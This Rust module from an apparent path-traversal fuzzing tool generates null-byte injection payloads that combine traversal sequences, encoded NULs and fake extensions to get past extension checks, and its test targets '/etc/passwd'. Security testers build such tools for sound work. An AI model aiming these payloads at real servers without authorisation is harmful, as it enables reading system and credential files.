//! `null_byte`: a traversal sequence and target file followed by a null-byte
//! encoding and a fake extension, aimed at servers that truncate the string
//! at the first NUL but an upstream extension check only sees the suffix.

use crate::constants::{FAKE_EXTENSIONS, FAKE_EXTENSION_TOP_N, NULL_ENCODINGS, NULL_ENCODING_TOP_N};
use crate::generator::{absolute_target_files, relative_target_files, GenerateParams};
use crate::methods::{basic_traversal_sequences, with_target};

pub fn generate(params: &GenerateParams) -> Vec<String> {
    let prefixes = basic_traversal_sequences(params);
    let targets = relative_target_files(params);
    let null_encs: Vec<&str> = NULL_ENCODINGS.iter().copied().take(NULL_ENCODING_TOP_N).collect();
    let fake_exts: Vec<&str> = FAKE_EXTENSIONS.iter().copied().take(FAKE_EXTENSION_TOP_N).collect();
    let mut out = Vec::new();

    for prefix in &prefixes {
        for target in &targets {
            let base = with_target(prefix, target, None);
            for null_enc in &null_encs {
                for fake_ext in &fake_exts {
                    out.push(format!("{base}{null_enc}{fake_ext}"));
                }
                // Double-null variant, for servers that only strip one NUL.
                out.push(format!("{base}{null_enc}{null_enc}"));
            }
        }
    }

    for abs in absolute_target_files(params) {
        for null_enc in &null_encs {
            for fake_ext in &fake_exts {
                out.push(format!("{abs}{null_enc}{fake_ext}"));
            }
        }
    }

    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::{DetectionMethod, OsType};

    #[test]
    fn appends_a_null_encoding_and_fake_extension() {
        let mut params = GenerateParams::new(OsType::Unix, 1, DetectionMethod::NullByte);
        params.target_file = Some("/etc/passwd".to_string());
        let out = generate(&params);
        assert!(out.iter().any(|p| p.contains("%00") && p.ends_with(".png")));
    }
}
